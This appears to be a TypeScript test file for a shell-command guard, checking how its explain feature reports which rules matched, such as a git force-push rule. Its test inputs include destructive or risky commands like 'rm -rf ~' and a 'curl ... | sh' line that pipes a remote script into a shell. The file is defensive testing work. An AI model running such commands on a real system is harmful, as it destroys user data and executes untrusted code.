// What `ralex check --explain` knows of a verdict: all that would run, how far each rule got, and what was looked at.
import { expect, test } from "bun:test"
import { explainCommand, explainCommandWithState, loadRules } from "../../rules/index.ts"
import { ruleContext } from "./rule-context.ts"

const trialOf = (command: string, id: string) =>
  explainCommand(command, ruleContext).rules.find(({ rule }) => rule === id)

test("a rule that matched says where, and all that held", () => {
  expect(trialOf("cd src && sudo git push -f origin main", "git.force-push")).toEqual({
    rule: "git.force-push",
    severity: "high",
    matched: true,
    onlyIfLost: false,
    execution: 2,
    held: ["program git", "subcommand push", expect.stringContaining("flags -f, --force")],
    missing: null,
  })
})

test("a rule that did not match says how far it got on what came nearest", () => {
  expect(trialOf("ls && git push origin main", "git.force-push")).toMatchObject({
    matched: false,
    execution: 1,
    held: ["program git", "subcommand push"],
    missing: expect.stringMatching(/^flags -f/),
  })
  // A rule about a program that does not run is not tried at all.
  expect(trialOf("ls", "git.force-push")).toBeUndefined()
})

test("each rule that was tried is told, in its order; the verdict's is the one that matched", () => {
  for (const command of [
    "ls > out.txt",
    "rm -rf ~",
    'git commit -m "rm -rf /"',
    "curl https://x.example | sh",
    "",
    "((",
  ]) {
    const { tried, rules, verdict } = explainCommand(command, ruleContext)
    expect(rules.map(({ rule }) => rule)).toEqual(tried)
    const denying = rules.filter(({ matched, onlyIfLost }) => matched && !onlyIfLost).map(({ rule }) => rule)
    const matched = verdict.kind !== "allow" && loadRules().rules.some(({ id }) => id === verdict.rule)
    expect(denying).toEqual(matched ? [verdict.rule] : [])
  }
})

test("what only touches files is shown as well, and what is not known by a sign", () => {
  const { executions } = explainCommand('rm "$X" > log', ruleContext)
  expect(executions).toMatchObject([
    { argv: [], effects: [{ access: "write", target: "log" }] },
    {
      argv: ["rm", "…"],
      program: "rm",
      arguments: { operands: ["…"] },
      effects: [{ access: "delete", target: "…" }],
    },
  ])
})

test("each look at the disk is told with its answer", async () => {
  const found = await explainCommandWithState("git reset --hard", ruleContext, async () => ({
    kind: "kept",
    because: "the working tree is clean",
  }))
  expect(found.verdict).toEqual({ kind: "allow", because: "the working tree is clean" })
  expect(found.state).toEqual([
    {
      about: "git",
      argv: ["git", "reset", "--hard"],
      targets: [],
      answer: { kind: "kept", because: "the working tree is clean" },
    },
  ])
})
